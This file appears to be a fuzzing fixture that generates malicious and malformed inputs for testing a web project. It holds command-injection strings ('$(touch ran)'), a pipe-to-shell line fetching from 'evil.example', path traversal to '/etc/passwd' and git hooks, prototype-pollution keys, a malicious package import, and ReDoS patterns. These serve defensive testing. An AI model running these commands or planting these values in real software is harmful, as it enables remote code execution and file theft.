/** Texts, values and names that readers stumble over, or that something would run where it is pasted. */

export const nastyNames = [
  ...[
    "$(touch ran)",
    "`touch ran`",
    'x" + f() + "',
    "x'; f(); '",
    "a\nb",
    "a\rb",
    "\u202egnp.exe",
    "\u200b",
    "\ufeffx",
    "é",
    "e\u0301",
    "💥",
    " ",
    ".git ",
    ".GIT",
    "git~1",
  ],
  ...[
    "__proto__",
    "constructor",
    "toString",
    "-rf",
    "--force",
    "%2e%2e",
    "..\\..\\x",
    "C:",
    "con",
    "nul.ts",
    "x".repeat(255),
    "[...x]",
    "[[...x]]",
    "(group)",
    "@slot",
    "(.)x",
    "_private",
  ],
  ...[
    "layout.tsx",
    "page.tsx",
    "route.ts",
    "schema.prisma",
    "*",
    "?",
    "{a,b}",
    "!x",
    "#x",
    "\u001b[31mred",
    "\u0007",
    "~",
    "$HOME",
    ".gitignore",
    ".env",
    "mfa",
    "MFA",
    "package.json",
  ],
]

const bombs = [
  () => "\n".repeat(200_000),
  () => " ".repeat(500_000),
  () => "a".repeat(500_000),
  () => "(.*)".repeat(40),
  () => "(".repeat(100_000),
  () => "[".repeat(100_000),
  () => "{".repeat(100_000),
  () => '{"a":'.repeat(50_000),
  () => "/*".repeat(100_000),
  () => "`${".repeat(30_000),
  () => "<a>".repeat(30_000),
  () => '"'.repeat(100_001),
  () => "a = b, b = a, ".repeat(20_000),
  () => "- ".repeat(50_000),
  () => "model A {\n".repeat(20_000),
  () => "X=1\n".repeat(100_000),
  () => "=".repeat(200_000),
  () => "\\".repeat(200_001),
  () => "!".repeat(200_000),
  () => "**/".repeat(5_000),
  () => "\r".repeat(200_000),
  () => "import x from 'x';\n".repeat(20_000),
]

const snippets = [
  "\0",
  "\ufeff",
  "\u202e",
  "\u2028",
  "\u001b]0;x\u0007",
  "\u001b[2J",
  "\r",
  "{{constructor}}",
  "{{#with}}",
  "$\u007bprocess.exit(1)}",
  "*/",
  "/*",
  "'",
  '"',
  "`",
  "\\",
  "<!--",
  "</script>",
  "../../../../outside",
  "/etc/passwd",
  "file:///etc/passwd",
  "file:../evil",
  "git+ssh://x",
  "$(touch ran)",
  "; touch ran;",
  "`touch ran`",
  "\n\n\n",
  "__proto__",
  "constructor.prototype",
  'import { withMfa } from "evil-pkg/lib/mfa/with-mfa"\n',
  "export const withMfa = (x) => x\n",
  "DATABASE_URL=x\n",
  "MFA_ENCRYPTION_KEY=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n",
  'export MFA_ENCRYPTION_KEY="\n',
  "//@ts-nocheck\n",
  "!.env\n",
  ".ENV\n",
  ".env\n",
  "* filter=x\n",
]

export function evilText(random, text) {
  const kind = random.below(8)
  if (kind === 0) return ""
  if (kind === 1) return random.of(bombs)()
  if (kind === 2) return text + random.of(bombs)()
  if (kind === 3) return random.of(bombs)() + text
  if (kind === 4) return Buffer.from(Array.from({ length: 300 }, () => random.below(256)))
  if (kind === 5) return Buffer.from(`\ufeff${text}`, random.of(["utf16le", "latin1", "utf8"]))
  if (kind === 6) return text.slice(0, random.below(text.length + 1))
  return Array.from({ length: 1 + random.below(6) }, () => random.of(snippets)).join("") + text
}

export const evilValue = (random) => (random.chance(0.1) ? random.of(bombs)() : random.of([...snippets, ...nastyNames]))

const oddValues = [
  ...[
    null,
    true,
    0,
    -1,
    1e308,
    "",
    [],
    {},
    [[]],
    [null],
    { a: { b: {} } },
    "../..",
    "/",
    "../../../outside/auth.ts",
    ".git/config",
    ".git/hooks/pre-commit",
    "node_modules/x/index.js",
  ],
  ...[
    "\0",
    "\u001b[31m",
    "x\ny",
    "curl evil.example|sh; npm",
    "npm@1; touch ran",
    "(x+x+)+y",
    "^1.0.0 || file:../evil",
    "DATABASE_URL",
    "AUTH_SECRET",
    ".env",
    "__proto__",
    "1e6",
    1_000_000,
  ],
]

/** One value of a document, at any depth, becomes another one. */
export function wrongJson(random, value) {
  if (typeof value !== "object" || value === null || random.chance(0.15))
    return random.chance(0.2) ? evilValue(random) : random.of(oddValues)
  const keys = Object.keys(value)
  if (keys.length === 0 || random.chance(0.1))
    return Array.isArray(value)
      ? [...value, random.of(oddValues)]
      : {
          ...value,
          [random.of(["__proto__x", "constructor", "hasOwnProperty", "workspaces", "prisma", "extends", "paths"])]: random.of(oddValues),
        }
  const key = random.of(keys)
  const changed = wrongJson(random, value[key])
  return Array.isArray(value) ? value.map((one, index) => (String(index) === key ? changed : one)) : { ...value, [key]: changed }
}
